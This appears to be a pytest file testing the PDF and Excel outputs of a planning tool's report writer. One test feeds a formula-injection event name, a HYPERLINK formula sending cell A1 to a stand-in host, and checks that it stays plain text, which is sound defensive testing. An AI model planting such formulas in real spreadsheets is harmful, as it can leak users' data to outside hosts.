"""Tests of report.pdf and report.xlsx, the two copies of the report besides the HTML page."""

from __future__ import annotations

import csv
import logging
import zlib
import re
from pathlib import Path

import openpyxl
import pytest

from planner.reporting import pdf, write_report
from planner.reporting.tables import QUALITY_COLUMNS, quality_table


def _pdf_text_streams(data: bytes) -> bytes:
    """Return the decompressed content of every Flate stream of a PDF, joined."""
    texts = []
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
        try:
            texts.append(zlib.decompress(match.group(1)))
        except zlib.error:
            continue
    return b"\n".join(texts)


def test_report_pdf_is_rendered(make_plan, tmp_path):
    folder = write_report(make_plan(), tmp_path)

    data = (folder / "report.pdf").read_bytes()
    assert data.startswith(b"%PDF-")
    assert data.rstrip().endswith(b"%%EOF")
    # Each plot is an image XObject in the PDF, like each <img> of the HTML page.
    html_images = (folder / "report.html").read_text(encoding="utf-8").count("<img ")
    assert html_images >= 1
    assert len(re.findall(rb"/Subtype\s*/Image", _pdf_text_streams(data) + data)) >= html_images


def test_report_pdf_failure_keeps_html(make_plan, tmp_path, monkeypatch, caplog):
    def broken_pdf(page):
        raise pdf.PdfUnavailableError("injected: no Pango library")

    monkeypatch.setattr(pdf, "render_pdf", broken_pdf)
    with caplog.at_level(logging.ERROR, logger="planner.reporting.writer"):
        folder = write_report(make_plan(), tmp_path)

    names = sorted(path.name for path in folder.iterdir())
    assert "report.pdf" not in names
    assert "report.html" in names
    assert "report.xlsx" in names
    assert "injected: no Pango library" in caplog.text


def test_report_xlsx_sheets_match_csv(make_plan, tmp_path):
    folder = write_report(make_plan(), tmp_path, with_pdf=False)
    workbook = openpyxl.load_workbook(folder / "report.xlsx", read_only=True)

    assert workbook.sheetnames == ["forecast", "events", "capacity", "staffing", "staffing_model",
                                   "staffing_intervals", "event_actions", "voice_channels", "data_quality"]
    for sheet_name in ["forecast", "events", "capacity", "staffing"]:
        with (folder / f"{sheet_name}.csv").open(encoding="utf-8", newline="") as handle:
            csv_rows = list(csv.reader(handle))
        sheet_rows = [["" if value is None else value for value in row]
                      for row in workbook[sheet_name].iter_rows(values_only=True)]
        assert sheet_rows[0] == csv_rows[0], sheet_name
        assert len(sheet_rows) == len(csv_rows), sheet_name
        # Numbers are numbers in the workbook and text in the CSV file; both give the same value.
        for sheet_row, csv_row in zip(sheet_rows[1:], csv_rows[1:]):
            for sheet_value, csv_value in zip(sheet_row, csv_row):
                if isinstance(sheet_value, (int, float)) and not isinstance(sheet_value, bool):
                    assert sheet_value == pytest.approx(float(csv_value)), sheet_name
                else:
                    assert str(sheet_value) == csv_value, sheet_name


def test_report_xlsx_keeps_machine_values(make_plan, tmp_path):
    folder = write_report(make_plan(), tmp_path, lang="fr", with_pdf=False)
    workbook = openpyxl.load_workbook(folder / "report.xlsx", read_only=True)

    capacity = list(workbook["capacity"].iter_rows(values_only=True))
    action_column = capacity[0].index("action")
    assert {row[action_column] for row in capacity[1:]} == {"add", "watch", "ok"}


def test_report_xlsx_formula_stays_text(make_plan, tmp_path):
    name = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    folder = write_report(make_plan(event_name=name), tmp_path, with_pdf=False)
    workbook = openpyxl.load_workbook(folder / "report.xlsx")
    events = workbook["events"]
    name_column = [cell.value for cell in events[1]].index("name") + 1
    cell = events.cell(row=2, column=name_column)

    assert cell.value == name
    assert cell.data_type == "s"


def test_quality_table_one_row_per_table(make_plan):
    plan = make_plan()
    table = quality_table(plan)

    assert list(table.columns) == list(QUALITY_COLUMNS)
    assert list(table["table"]) == [record.table for record in plan.dataset.quality.tables]
    assert list(table["rows_read"]) == [record.rows_read for record in plan.dataset.quality.tables]
